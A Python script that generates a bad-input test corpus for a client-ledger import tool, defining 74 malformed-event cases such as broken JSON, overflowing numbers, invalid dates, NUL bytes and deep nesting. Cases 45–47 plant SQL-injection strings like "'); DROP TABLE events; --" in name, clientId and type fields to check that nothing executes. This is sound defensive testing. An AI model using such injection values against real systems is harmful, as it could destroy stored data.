#!/usr/bin/env python3
"""Generates and checks the bad-input corpus for `clientledger import`.

Writes into Tests/ClientLedgerCLITests/BadInput/:
  base.jsonl              valid import that every case runs on top of (C100, C101, C102)
  NN-*.jsonl / NN-*.bin   one bad case each; exactly one bad line, every other line valid
  cases.json              [{"file", "exit", "contains", "why"}] (+ "generate" for cases built by the test)
  valid-sql-strings.jsonl valid lines holding SQL-looking and non-ASCII text
  accepted.json           [{"file", "events", "why"}]
  valid-injection-every-field.jsonl, valid-crlf.jsonl, hostile-accepted.json
                          accepted hostile text and CRLF endings (read by Tests/ReliabilityTests)

Then it re-reads every file and runs a small reference validator (a model of the import rules in
SPEC.md §2–§4 and the error-message conventions) over it: base and the accepted files must pass,
and each case must fail first at its bad line with the message fragments listed in cases.json.

Run from the repository root:  python3 tools/badinput_corpus.py
"""

import hashlib
import json
import os
import re
import sys
import uuid
from decimal import Decimal

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT = os.path.join(ROOT, "Tests", "ClientLedgerCLITests", "BadInput")

MAX_LINE = 1048576
ALL_IDS = {}


def uid(label):
    """A deterministic, lowercase, version-4-shaped UUID unique to `label`."""
    digest = hashlib.sha256(("clientledger/badinput/" + label).encode()).digest()[:16]
    value = str(uuid.UUID(bytes=digest, version=4))
    assert ALL_IDS.setdefault(value, label) == label, f"uuid collision {label}"
    return value


class Raw:
    """JSON text written exactly as given (numbers like 50000.00, 1e400, or broken values)."""

    def __init__(self, text):
        self.text = text


def dump(value):
    if isinstance(value, Raw):
        return value.text
    if isinstance(value, dict):
        return "{" + ",".join(json.dumps(k, ensure_ascii=False) + ":" + dump(v) for k, v in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ",".join(dump(v) for v in value) + "]"
    return json.dumps(value, ensure_ascii=False)


def ev(label, type_, client, at, data=None, meta=None, *, omit=(), extra=None, event_id=None):
    """One event line as an ordered dict. `omit` drops top-level keys; `extra` appends keys."""
    line = {
        "eventId": event_id if event_id is not None else uid(label),
        "type": type_,
        "clientId": client,
        "occurredAt": at,
        "data": data if data is not None else {},
    }
    if meta is not None:
        line["metadata"] = meta
    for key in omit:
        line.pop(key, None)
    if extra:
        line.update(extra)
    return line


def reg(label, client, at, name, segment="retail", investor="ordinary", branch="SH-Lujiazui", meta=None):
    return ev(label, "ClientRegistered", client, at,
              {"name": name, "segment": segment, "investorType": investor, "branch": branch}, meta)


def money(text):
    return Raw(text)


class Bad:
    """Marks the bad line of a case; `line` is a dict/str/bytes."""

    def __init__(self, line):
        self.line = line


def render(line):
    if isinstance(line, bytes):
        return line
    if isinstance(line, str):
        return line.encode()
    return dump(line).encode()


# ---------------------------------------------------------------------------------------------
# base.jsonl

OMS = {"actor": "oms", "channel": "app"}
CRM = {"actor": "crm", "channel": "branch"}

BASE = [
    reg("base/C100/registered", "C100", "2025-03-10T09:00:00Z", "Li Na", "retail", "ordinary", "SH-Lujiazui", CRM),
    ev("base/C100/risk", "RiskAssessed", "C100", "2025-03-11T10:15:00Z", {"level": "C3", "score": 55}, CRM),
    reg("base/C101/registered", "C101", "2025-04-02T14:20:00Z", "Wang Fang", "high_net_worth", "professional", "BJ-Xidan", CRM),
    ev("base/C101/risk", "RiskAssessed", "C101", "2025-04-03T09:45:00Z", {"level": "C4", "score": 68}, CRM),
    reg("base/C102/registered", "C102", "2025-05-20T11:00:00Z", "Zhao Lei", "institutional", "professional", "SZ-Futian", CRM),
    ev("base/C102/risk", "RiskAssessed", "C102", "2025-05-21T16:30:00Z", {"level": "C5", "score": 85}, CRM),
    ev("base/C102/deposit", "FundsDeposited", "C102", "2025-06-01T08:05:00Z", {"amount": money("250000.00")}, {"actor": "core-banking", "channel": "web"}),
    ev("base/C102/trade", "TradeExecuted", "C102", "2025-07-14T09:31:00Z",
       {"orderId": "O-C102-0001", "productId": "EQ-600519", "notional": money("80000.00")}, OMS),
    ev("base/C102/survey", "SurveyAnswered", "C102", "2025-08-20T12:00:00Z", {"nps": 9}, {"actor": "survey", "channel": "email"}),
    ev("base/C100/interaction-1", "InteractionLogged", "C100", "2025-09-15T10:00:00Z", {"channel": "app", "kind": "inquiry"}, OMS),
    ev("base/C101/interaction-1", "InteractionLogged", "C101", "2025-10-08T15:00:00Z", {"channel": "branch", "kind": "visit"}, CRM),
    ev("base/C100/trade", "TradeExecuted", "C100", "2026-01-05T09:30:00Z",
       {"orderId": "O-C100-0001", "productId": "EQ-600519", "notional": money("50000.00")}, OMS),
    ev("base/C101/interaction-2", "InteractionLogged", "C101", "2026-01-12T11:30:00Z", {"channel": "phone", "kind": "education"}, CRM),
    ev("base/C100/interaction-2", "InteractionLogged", "C100", "2026-01-20T17:45:00Z", {"channel": "wechat", "kind": "feedback"}, OMS),
    ev("base/C102/offboarded", "ClientOffboarded", "C102", "2026-02-10T10:00:00Z", {"reason": "account closed at client request"}, CRM),
]
BASE_TRADE_C100 = BASE[11]

# ---------------------------------------------------------------------------------------------
# Cases. Each: (name, ext, lines, exit, contains-templates, why). "{n}" is the bad line's number.
# Valid lines use C100/C101 (no points-earning events for C100) or C2NN registered in the same
# file, NN being the case number.

CASES = []


def case(nn, short, lines, contains, why, exit_code=65, ext="jsonl", crlf=False):
    CASES.append({"nn": nn, "name": f"{nn:02d}-{short}.{ext}", "lines": lines,
                  "contains": contains, "why": why, "exit": exit_code, "crlf": crlf})


def k(nn, what):
    return f"case{nn:02d}/{what}"


def c101_visit(nn, at="2026-03-02T10:00:00Z", tag="visit"):
    return ev(k(nn, tag), "InteractionLogged", "C101", at, {"channel": "advisor", "kind": "education"}, CRM)


def c100_contact(nn, at="2026-03-03T09:00:00Z", tag="contact"):
    return ev(k(nn, tag), "InteractionLogged", "C100", at, {"channel": "web", "kind": "inquiry"}, OMS)


def new_client(nn, at="2026-03-01T09:00:00Z", name=None):
    client = f"C2{nn:02d}"
    return client, reg(k(nn, "register"), client, at, name or f"Client {client}", "retail", "ordinary", "GZ-Tianhe", CRM)


def deposit(nn, client, at, amount="10000.00", tag="deposit"):
    return ev(k(nn, tag), "FundsDeposited", client, at, {"amount": money(amount)}, {"actor": "core-banking", "channel": "web"})


def risk(nn, client, at, level="C2", score=35, tag="risk"):
    return ev(k(nn, tag), "RiskAssessed", client, at, {"level": level, "score": score}, CRM)


# --- malformed JSON ------------------------------------------------------------------------

n = 1
c, r = new_client(n)
truncated = dump(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", {"amount": money("1000.00")}))[:-1]
case(n, "truncated-object", [r, risk(n, c, "2026-03-01T10:00:00Z"), Bad(truncated), c101_visit(n)],
     ["line {n}: malformed JSON"], "object cut off before its closing brace")

n = 2
trailing = dump(c100_contact(n, tag="bad")) + " garbage"
case(n, "trailing-garbage", [c101_visit(n), Bad(trailing), c101_visit(n, "2026-03-04T10:00:00Z", "visit-2")],
     ["line {n}: malformed JSON"], "a complete object followed by bare text on the same line")

n = 3
single = ("{'eventId':'" + uid(k(n, "bad")) + "','type':'InteractionLogged','clientId':'C101',"
          "'occurredAt':'2026-03-02T10:00:00Z','data':{'channel':'app','kind':'inquiry'}}")
c, r = new_client(n)
case(n, "single-quotes", [Bad(single), r, deposit(n, c, "2026-03-02T11:00:00Z")],
     ["line {n}: malformed JSON"], "single-quoted keys and strings are not JSON")

n = 4
c, r = new_client(n)
case(n, "bare-words", [r, risk(n, c, "2026-03-01T10:00:00Z"), c101_visit(n), Bad("hello world"),
                       deposit(n, c, "2026-03-05T10:00:00Z")],
     ["line {n}: malformed JSON"], "a line of bare words, not JSON at all")

n = 5
trailing_comma = dump(c101_visit(n, tag="bad"))[:-1] + ",}"
case(n, "trailing-comma", [c100_contact(n), Bad(trailing_comma)],
     ["line {n}: malformed JSON"], "a trailing comma before the closing brace is not JSON")

n = 6
array_line = "[" + dump(c101_visit(n, tag="bad")) + "]"
c, r = new_client(n)
case(n, "json-array", [r, Bad(array_line), deposit(n, c, "2026-03-03T10:00:00Z")],
     ["line {n}:"], "valid JSON but an array holding the event, not an event object (exact wording not fixed)")

# --- type --------------------------------------------------------------------------------

n = 7
c, r = new_client(n)
case(n, "missing-type",
     [r, risk(n, c, "2026-03-01T10:00:00Z"),
      Bad(ev(k(n, "bad"), None, c, "2026-03-02T10:00:00Z", {"amount": money("500.00")}, omit=("type",))),
      c101_visit(n)],
     ["line {n}, field type:"], "no type key")

n = 8
case(n, "unknown-type",
     [c101_visit(n),
      Bad(ev(k(n, "bad"), "ClientTeleported", "C100", "2026-03-02T10:00:00Z", {"destination": "Mars"}, OMS))],
     ["line {n}, field type:"], "type not in the v1 catalogue")

n = 9
case(n, "decision-points-awarded",
     [c100_contact(n),
      Bad(ev(k(n, "bad"), "PointsAwarded", "C100", "2026-03-04T10:00:00Z",
             {"points": 1000, "reason": "trade", "expiresAt": "2028-03-04T10:00:00Z"}, {"actor": "import"})),
      c101_visit(n)],
     ["line {n}, field type:", "decision"], "PointsAwarded is a decision the ledger makes itself; importing it would mint points")

n = 10
case(n, "decision-points-expired",
     [Bad(ev(k(n, "bad"), "PointsExpired", "C100", "2026-03-04T10:00:00Z", {"points": 500}, {"actor": "import"})),
      c101_visit(n)],
     ["line {n}, field type:", "decision"], "PointsExpired is a decision, not importable")

n = 11
c, r = new_client(n)
case(n, "decision-tier-changed",
     [r, c101_visit(n),
      Bad(ev(k(n, "bad"), "TierChanged", c, "2026-03-04T10:00:00Z",
             {"from": "Standard", "to": "Diamond", "reason": "qualified"}, {"actor": "import"}))],
     ["line {n}, field type:", "decision"], "TierChanged is a decision, not importable")

# --- occurredAt --------------------------------------------------------------------------

n = 12
c, r = new_client(n)
case(n, "missing-occurred-at",
     [r, Bad(ev(k(n, "bad"), "FundsDeposited", c, None, {"amount": money("100.00")}, omit=("occurredAt",))),
      c101_visit(n)],
     ["line {n}, field occurredAt:"], "no occurredAt key")

n = 13
c, r = new_client(n)
case(n, "occurred-at-feb-30",
     [r, risk(n, c, "2026-03-01T10:00:00Z"), c101_visit(n),
      Bad(ev(k(n, "bad"), "InteractionLogged", c, "2026-02-30T00:00:00Z", {"channel": "app", "kind": "inquiry"})),
      c100_contact(n)],
     ["line {n}, field occurredAt:"], "February 30 does not exist")

n = 14
case(n, "occurred-at-word",
     [c100_contact(n), Bad(ev(k(n, "bad"), "SurveyAnswered", "C101", "yesterday", {"nps": 7}))],
     ["line {n}, field occurredAt:"], "not a timestamp")

n = 15
c, r = new_client(n)
case(n, "occurred-at-month-13",
     [r, c101_visit(n), Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-13-01T00:00:00Z", {"amount": money("100.00")})),
      deposit(n, c, "2026-03-05T10:00:00Z")],
     ["line {n}, field occurredAt:"], "month 13")

n = 16
case(n, "occurred-at-number",
     [Bad(ev(k(n, "bad"), "InteractionLogged", "C101", Raw("1767225600"), {"channel": "phone", "kind": "inquiry"})),
      c100_contact(n)],
     ["line {n}, field occurredAt:"], "a Unix time number instead of an ISO-8601 string")

n = 17
case(n, "occurred-at-no-zone",
     [c101_visit(n), Bad(ev(k(n, "bad"), "InteractionLogged", "C100", "2026-03-02T09:30:00", {"channel": "app", "kind": "inquiry"})),
      c101_visit(n, "2026-03-06T10:00:00Z", "visit-2")],
     ["line {n}, field occurredAt:"], "no Z or offset: the moment is ambiguous (LedgerStore's Timestamp parser rejects it)")

# --- data --------------------------------------------------------------------------------

n = 18
c, r = new_client(n)
case(n, "missing-data",
     [r, Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", omit=("data",))), c101_visit(n)],
     ["line {n}, field data:"], "FundsDeposited without a data object")

n = 19
c, r = new_client(n)
case(n, "data-string",
     [r, risk(n, c, "2026-03-01T10:00:00Z"),
      Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", "amount=100.00")), c101_visit(n)],
     ["line {n}, field data:"], "data is a string, not an object")

n = 20
c, r = new_client(n)
case(n, "missing-product-id",
     [r, Bad(ev(k(n, "bad"), "TradeExecuted", c, "2026-03-02T10:00:00Z", {"orderId": "O-220-1", "notional": money("1000.00")}, OMS)),
      deposit(n, c, "2026-03-03T10:00:00Z")],
     ["line {n}, field data.productId:"], "TradeExecuted needs productId")

n = 21
c, r = new_client(n)
case(n, "notional-string",
     [r, risk(n, c, "2026-03-01T10:00:00Z"), deposit(n, c, "2026-03-02T10:00:00Z"),
      Bad(ev(k(n, "bad"), "TradeExecuted", c, "2026-03-03T10:00:00Z",
             {"orderId": "O-221-1", "productId": "EQ-600519", "notional": "100"}, OMS))],
     ["line {n}, field data.notional:"], "notional given as the string \"100\", not a number")

n = 22
case(n, "nps-11",
     [c100_contact(n), Bad(ev(k(n, "bad"), "SurveyAnswered", "C101", "2026-03-04T10:00:00Z", {"nps": 11}, {"actor": "survey"})),
      c101_visit(n)],
     ["line {n}, field data.nps:"], "nps is 0–10")

n = 23
c, r = new_client(n)
case(n, "nps-fraction",
     [r, c101_visit(n), Bad(ev(k(n, "bad"), "SurveyAnswered", c, "2026-03-04T10:00:00Z", {"nps": money("3.5")}, {"actor": "survey"}))],
     ["line {n}, field data.nps:"], "nps is a whole number")

n = 24
c, r = new_client(n)
case(n, "amount-negative",
     [r, Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", {"amount": Raw("-5")})),
      deposit(n, c, "2026-03-03T10:00:00Z")],
     ["line {n}, field data.amount:"], "amount must be > 0 (a withdrawal is FundsWithdrawn, not a negative deposit)")

n = 25
c, r = new_client(n)
case(n, "amount-zero",
     [r, deposit(n, c, "2026-03-02T10:00:00Z"),
      Bad(ev(k(n, "bad"), "FundsWithdrawn", c, "2026-03-03T10:00:00Z", {"amount": Raw("0")})), c101_visit(n)],
     ["line {n}, field data.amount:"], "amount must be > 0")

n = 26
c, r = new_client(n)
case(n, "amount-three-decimals",
     [r, Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", {"amount": Raw("10.001")}))],
     ["line {n}, field data.amount:"], "CNY amounts have at most 2 decimals")

n = 27
c, r = new_client(n)
case(n, "amount-huge",
     [r, risk(n, c, "2026-03-01T10:00:00Z"),
      Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", {"amount": Raw("1e400")})), c101_visit(n)],
     ["line {n}, field data.amount:"],
     "1e400 is valid JSON number syntax but overflows a Double and any money type; must be a field error, not malformed JSON, and never stored as inf")

n = 28
case(n, "points-fraction",
     [c101_visit(n), Bad(ev(k(n, "bad"), "PointsRedeemed", "C100", "2026-03-04T10:00:00Z",
                            {"points": money("1.5"), "reward": "coffee voucher"}, {"actor": "loyalty-app"}))],
     ["line {n}, field data.points:"], "points are whole numbers (C100 has 500 available, so the balance is not the problem)")

n = 29
case(n, "segment-vip",
     [c101_visit(n), c100_contact(n),
      Bad(reg(k(n, "bad"), "C229", "2026-03-03T10:00:00Z", "Sun Yue", "vip", "ordinary", "HZ-Xihu", CRM)),
      c101_visit(n, "2026-03-04T10:00:00Z", "visit-2")],
     ["line {n}, field data.segment:"], "segment is retail|high_net_worth|institutional")

n = 30
case(n, "unknown-data-field",
     [c100_contact(n), c101_visit(n),
      Bad(ev(k(n, "bad"), "InteractionLogged", "C101", "2026-03-05T10:00:00Z",
             {"channel": "app", "kind": "inquiry", "colour": "blue"}, CRM))],
     ["line {n}, field data.colour:"], "unknown key in data")

n = 31
c, r = new_client(n)
case(n, "unknown-top-level-field",
     [r, risk(n, c, "2026-03-01T10:00:00Z"),
      Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", {"amount": money("100.00")},
             extra={"priority": "high"})),
      c100_contact(n)],
     ["line {n}, field priority:"], "unknown top-level key (its path is the bare key name)")

n = 32
case(n, "actor-number",
     [c101_visit(n), Bad(ev(k(n, "bad"), "InteractionLogged", "C100", "2026-03-04T10:00:00Z",
                            {"channel": "app", "kind": "feedback"}, {"actor": Raw("42"), "channel": "app"}))],
     ["line {n}, field metadata.actor:"], "metadata.actor must be a string")

# --- eventId -----------------------------------------------------------------------------

n = 33
c, r = new_client(n)
dup = uid(k(n, "deposit"))
case(n, "duplicate-event-id",
     [c101_visit(n), r, deposit(n, c, "2026-03-02T10:00:00Z"),
      Bad(ev(None, "FundsWithdrawn", c, "2026-03-03T10:00:00Z", {"amount": money("50.00")}, event_id=dup)),
      c100_contact(n)],
     ["line {n}, field eventId:", "duplicate"], "line 4 reuses line 3's eventId for a different event")

n = 34
c, r = new_client(n)
case(n, "event-id-not-uuid",
     [r, c101_visit(n), Bad(ev(None, "FundsDeposited", c, "2026-03-02T10:00:00Z", {"amount": money("100.00")}, event_id="evt-0001"))],
     ["line {n}, field eventId:"], "eventId must be a UUID")

n = 35
case(n, "event-id-reused-from-log",
     [c101_visit(n),
      Bad(ev(None, "TradeExecuted", "C100", "2026-01-05T09:30:00Z",
             {"orderId": "O-C100-0001", "productId": "EQ-600519", "notional": money("90000.00")}, OMS,
             event_id=BASE_TRADE_C100["eventId"]))],
     ["line {n}, field eventId:"],
     "reuses the eventId of base's C100 trade with a different notional: not an idempotent retry (StoreError.eventIdReused)")

# --- stream state ------------------------------------------------------------------------

n = 36
c, r = new_client(n)
case(n, "unregistered-client",
     [r, Bad(ev(k(n, "bad"), "FundsDeposited", "C999", "2026-03-02T10:00:00Z", {"amount": money("100.00")})),
      deposit(n, c, "2026-03-02T10:00:00Z")],
     ["line {n}, field clientId:"], "C999 was never registered")

n = 37
case(n, "second-registration",
     [c101_visit(n), c100_contact(n),
      Bad(reg(k(n, "bad"), "C100", "2026-03-05T10:00:00Z", "Li Na", "retail", "ordinary", "SH-Lujiazui", CRM))],
     ["line {n}, field type:"], "C100 is already registered; ClientRegistered must be a stream's first event")

n = 38
case(n, "after-offboarding",
     [c101_visit(n), Bad(ev(k(n, "bad"), "InteractionLogged", "C102", "2026-03-04T10:00:00Z", {"channel": "phone", "kind": "complaint"}, CRM)),
      c100_contact(n)],
     ["line {n}, field clientId:", "offboarded"], "C102 was offboarded on 2026-02-10")

n = 39
case(n, "redeem-over-balance",
     [c101_visit(n), c100_contact(n),
      Bad(ev(k(n, "bad"), "PointsRedeemed", "C100", "2026-03-05T10:00:00Z", {"points": 600, "reward": "tea set"}, {"actor": "loyalty-app"}))],
     ["line {n}, field data.points:", "500"], "C100 has 500 points available (50000.00 notional / 100); 600 is more")

n = 40
case(n, "expected-version-conflict",
     [c101_visit(n),
      Bad(ev(k(n, "bad"), "InteractionLogged", "C100", "2026-03-04T10:00:00Z", {"channel": "app", "kind": "inquiry"}, OMS,
             extra={"expectedVersion": 0})),
      c101_visit(n, "2026-03-06T10:00:00Z", "visit-2")],
     ["line {n}, field expectedVersion:", "conflict"], "expectedVersion 0 means 'stream must not exist', but client/C100 exists", exit_code=75)

# --- bytes ------------------------------------------------------------------------------

n = 41
bad_utf8 = dump(reg(k(n, "bad"), "C241", "2026-03-02T10:00:00Z", "Zhang@@Wei", "retail", "ordinary", "SH-Pudong", CRM)).encode()
bad_utf8 = bad_utf8.replace(b"@@", b"\xff\xfe\xc3\x28")
case(n, "invalid-utf8", [c101_visit(n), Bad(bad_utf8), c100_contact(n)],
     ["line {n}: not valid UTF-8"], "name holds bytes FF FE and C3 28, which are not UTF-8", ext="bin")

LONG_LINE_CASE = {
    "file": "42-long-line.jsonl",
    "generate": {"longLine": True},
    "exit": 65,
    "contains": ["line 1: longer than 1048576 bytes"],
    "why": ("generated by the test, not stored: a one-line file holding a ClientRegistered for C242 whose name "
            "is 1,200,000 ASCII characters (line length > 1 MiB = 1048576 bytes)"),
}

n = 43
case(n, "empty", [], ["empty"], "a zero-byte file")

n = 44
case(n, "blank-lines", ["", "   ", "", "\t", ""], ["empty"],
     "only blank (empty or whitespace-only) lines: counts as empty")

# --- SQL-looking strings in rejected lines ---------------------------------------------

n = 45
case(n, "sql-name-bad-investor-type",
     [c100_contact(n),
      Bad(reg(k(n, "bad"), "C245", "2026-03-02T10:00:00Z", "'); DROP TABLE events; --", "retail", "expert", "SH-Lujiazui", CRM)),
      c101_visit(n)],
     ["line {n}, field data.investorType:"], "SQL-looking name in a line rejected for investorType 'expert'; the events table must survive untouched")

n = 46
case(n, "sql-client-id",
     [c100_contact(n), c101_visit(n),
      Bad(ev(k(n, "bad"), "FundsDeposited", "C1'; DROP TABLE events; --", "2026-03-05T10:00:00Z", {"amount": money("100.00")}))],
     ["line {n}, field clientId:"], "SQL-looking clientId: no such client (or not a valid id); nothing may be executed")

n = 47
c, r = new_client(n)
case(n, "sql-type",
     [Bad(ev(k(n, "bad"), "TradeExecuted'); DELETE FROM events; --", "C100", "2026-03-02T10:00:00Z",
             {"orderId": "O-1", "productId": "EQ-600519", "notional": money("100.00")})),
      r],
     ["line {n}, field type:"], "SQL-looking type name: unknown type")

# --- atomicity --------------------------------------------------------------------------

n = 48
c, r = new_client(n)
case(n, "atomic-last-line",
     [r, risk(n, c, "2026-03-01T10:00:00Z"), deposit(n, c, "2026-03-02T10:00:00Z", "200000.00"),
      ev(k(n, "trade"), "TradeExecuted", c, "2026-03-03T10:00:00Z",
         {"orderId": "O-248-1", "productId": "FUND-03", "notional": money("30000.00")}, OMS),
      Bad(ev(k(n, "bad"), "FundsWithdrawn", c, "2026-03-04T10:00:00Z", {"amount": "1,000.00"}))],
     ["line {n}, field data.amount:"],
     "first 4 lines are valid (and would award points and a Silver TierChanged); line 5 has amount as a string: nothing may be written")

# --- more field checks ------------------------------------------------------------------

n = 49
c, r = new_client(n)
case(n, "schema-version-zero",
     [r, Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", {"amount": money("100.00")}, extra={"schemaVersion": 0})),
      c101_visit(n)],
     ["line {n}, field schemaVersion:"], "schemaVersion starts at 1")

n = 50
case(n, "missing-client-id",
     [c100_contact(n), Bad(ev(k(n, "bad"), "InteractionLogged", None, "2026-03-04T10:00:00Z",
                             {"channel": "app", "kind": "inquiry"}, omit=("clientId",)))],
     ["line {n}, field clientId:"], "client event without clientId (and no campaignId)")

n = 51
c, r = new_client(n)
case(n, "risk-level-c6",
     [r, c101_visit(n), Bad(ev(k(n, "bad"), "RiskAssessed", c, "2026-03-03T10:00:00Z", {"level": "C6", "score": 90}, CRM))],
     ["line {n}, field data.level:"], "level is C1…C5")

n = 52
c, r = new_client(n)
case(n, "risk-score-101",
     [r, Bad(ev(k(n, "bad"), "RiskAssessed", c, "2026-03-03T10:00:00Z", {"level": "C5", "score": 101}, CRM)),
      deposit(n, c, "2026-03-04T10:00:00Z")],
     ["line {n}, field data.score:"], "score is 0–100")

n = 53
case(n, "channel-fax",
     [c101_visit(n), c100_contact(n), c101_visit(n, "2026-03-04T10:00:00Z", "visit-2"),
      Bad(ev(k(n, "bad"), "InteractionLogged", "C100", "2026-03-05T10:00:00Z", {"channel": "fax", "kind": "inquiry"}, OMS))],
     ["line {n}, field data.channel:"], "fax is not one of the interaction channels")

n = 54
case(n, "adjust-zero-points",
     [c101_visit(n), Bad(ev(k(n, "bad"), "PointsAdjusted", "C100", "2026-03-04T10:00:00Z",
                            {"points": 0, "reason": "goodwill", "approvedBy": "supervisor-7"}, {"actor": "crm"}))],
     ["line {n}, field data.points:"], "PointsAdjusted points must be non-zero")

# --- hostile numbers (issue 5) ------------------------------------------------------------

n = 55
c, r = new_client(n)
case(n, "nan-literal",
     [r, Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", {"amount": Raw("NaN")})), c101_visit(n)],
     ["line {n}: malformed JSON"], "NaN is not a JSON literal (RFC 8259); it must never reach a money field")

n = 56
c, r = new_client(n)
case(n, "infinity-literal",
     [r, deposit(n, c, "2026-03-02T10:00:00Z"),
      Bad(ev(k(n, "bad"), "TradeExecuted", c, "2026-03-03T10:00:00Z",
             {"orderId": "O-256-1", "productId": "EQ-600519", "notional": Raw("Infinity")}, OMS))],
     ["line {n}: malformed JSON"], "Infinity is not a JSON literal")

n = 57
case(n, "minus-infinity-points",
     [c101_visit(n), Bad(ev(k(n, "bad"), "PointsAdjusted", "C100", "2026-03-04T10:00:00Z",
                            {"points": Raw("-Infinity"), "reason": "goodwill", "approvedBy": "supervisor-7"}, {"actor": "crm"}))],
     ["line {n}: malformed JSON"], "-Infinity is not a JSON literal")

n = 58
case(n, "points-1e999",
     [c100_contact(n), Bad(ev(k(n, "bad"), "PointsRedeemed", "C100", "2026-03-04T10:00:00Z",
                             {"points": Raw("1e999"), "reward": "coffee voucher"}, {"actor": "loyalty-app"}))],
     ["line {n}, field data.points:"], "1e999 is valid number syntax but overflows every integer and double; a field error, never inf")

n = 59
c, r = new_client(n)
case(n, "amount-minus-zero",
     [r, Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", {"amount": Raw("-0")})), deposit(n, c, "2026-03-03T10:00:00Z")],
     ["line {n}, field data.amount:"], "-0 is zero: amounts must be greater than 0")

n = 60
case(n, "points-huge-integer",
     [c101_visit(n), Bad(ev(k(n, "bad"), "PointsAdjusted", "C101", "2026-03-04T10:00:00Z",
                            {"points": Raw("123456789012345678901234567890"), "reason": "goodwill", "approvedBy": "supervisor-7"}, {"actor": "crm"}))],
     ["line {n}, field data.points:"], "a 30-digit integer overflows Int64; points are at most 1,000,000,000,000")

n = 61
case(n, "points-2-pow-63",
     [c100_contact(n), Bad(ev(k(n, "bad"), "PointsRedeemed", "C100", "2026-03-04T10:00:00Z",
                             {"points": Raw("9223372036854775808"), "reward": "tea set"}, {"actor": "loyalty-app"}))],
     ["line {n}, field data.points:"], "2^63, one more than Int64.max: must not wrap to a negative number")

n = 62
case(n, "redeem-negative-points",
     [c101_visit(n), Bad(ev(k(n, "bad"), "PointsRedeemed", "C100", "2026-03-04T10:00:00Z",
                            {"points": Raw("-50"), "reward": "tea set"}, {"actor": "loyalty-app"}))],
     ["line {n}, field data.points:"], "a negative redemption would mint points")

n = 63
case(n, "adjust-fractional-points",
     [c100_contact(n), Bad(ev(k(n, "bad"), "PointsAdjusted", "C101", "2026-03-04T10:00:00Z",
                             {"points": Raw("2.5"), "reason": "goodwill", "approvedBy": "supervisor-7"}, {"actor": "crm"}))],
     ["line {n}, field data.points:"], "points are whole numbers")

n = 64
case(n, "adjust-minus-zero-points",
     [c101_visit(n), Bad(ev(k(n, "bad"), "PointsAdjusted", "C100", "2026-03-04T10:00:00Z",
                            {"points": Raw("-0"), "reason": "goodwill", "approvedBy": "supervisor-7"}, {"actor": "crm"}))],
     ["line {n}, field data.points:"], "-0 is zero: an adjustment of 0 points is refused")

# --- hostile dates ---------------------------------------------------------------------

n = 65
c, r = new_client(n)
case(n, "occurred-at-year-0001",
     [r, Bad(ev(k(n, "bad"), "InteractionLogged", "C101", "0001-01-01T00:00:00Z", {"channel": "app", "kind": "inquiry"}, OMS)),
      deposit(n, c, "2026-03-03T10:00:00Z")],
     ["line {n}, field occurredAt:"], "year 1 is outside the supported years 1900–9999")

n = 66
case(n, "occurred-at-year-10000",
     [c100_contact(n), Bad(ev(k(n, "bad"), "InteractionLogged", "C101", "10000-01-01T00:00:00Z", {"channel": "app", "kind": "inquiry"}, OMS))],
     ["line {n}, field occurredAt:"], "a five-digit year is not ISO-8601's fixed-width form and is outside 1900–9999")

n = 67
case(n, "occurred-at-year-1899",
     [c101_visit(n), Bad(ev(k(n, "bad"), "InteractionLogged", "C100", "1899-12-31T23:59:59Z", {"channel": "app", "kind": "inquiry"}, OMS)),
      c100_contact(n)],
     ["line {n}, field occurredAt:"], "the last second of 1899 is before the supported range")

# --- bytes and nesting -----------------------------------------------------------------

n = 68
nul_in_string = dump(reg(k(n, "bad"), "C268", "2026-03-02T10:00:00Z", "Li@@Na", "retail", "ordinary", "SH-Pudong", CRM)).encode()
nul_in_string = nul_in_string.replace(b"@@", b"\x00")
case(n, "nul-byte-in-string", [c101_visit(n), Bad(nul_in_string), c100_contact(n)],
     ["line {n}: malformed JSON"], "a raw NUL byte inside a string is an unescaped control character", ext="bin")

n = 69
nul_between = dump(c100_contact(n, tag="bad")).encode().replace(b',"type"', b',\x00"type"')
case(n, "nul-byte-between-tokens", [c101_visit(n), c100_contact(n, "2026-03-05T09:00:00Z", "contact-2"), Bad(nul_between)],
     ["line {n}: malformed JSON"], "a raw NUL byte between two members is not JSON white space", ext="bin")

n = 70
c, r = new_client(n)
case(n, "escaped-nul-in-name",
     [r, Bad(ev(k(n, "bad"), "ClientProfileUpdated", c, "2026-03-02T10:00:00Z", {"name": "Li\u0000Na"}, CRM))],
     ["line {n}, field data.name:"], "\\u0000 is valid JSON but a control character; text fields refuse it (it would truncate C strings)")

n = 71
deep = "[" * 1000 + "]" * 1000
c, r = new_client(n)
case(n, "deep-nesting-1000-arrays",
     [r, Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", {"amount": Raw("100.00"), "x": Raw(deep)})),
      c101_visit(n)],
     ["line {n}: malformed JSON"], "1000 nested arrays: refused by the parser's depth limit (64), without exhausting the stack")

n = 72
deep_object = '{"a":' * 1000 + "1" + "}" * 1000
case(n, "deep-nesting-1000-objects", [c100_contact(n), Bad(deep_object)],
     ["line {n}: malformed JSON"], "a line that is 1000 nested objects")

n = 73
c, r = new_client(n)
case(n, "crlf-bad-line",
     [r, risk(n, c, "2026-03-01T10:00:00Z"),
      Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", {"amount": Raw("10.001")})), c101_visit(n)],
     ["line {n}, field data.amount:"], "CRLF line endings are valid; the bad line is still named by its number", crlf=True)

n = 74
case(n, "only-whitespace-crlf", ["", " ", "\t", "  \t "], ["empty"],
     "blank lines with CRLF endings (CR, spaces, tabs): counts as empty", crlf=True)

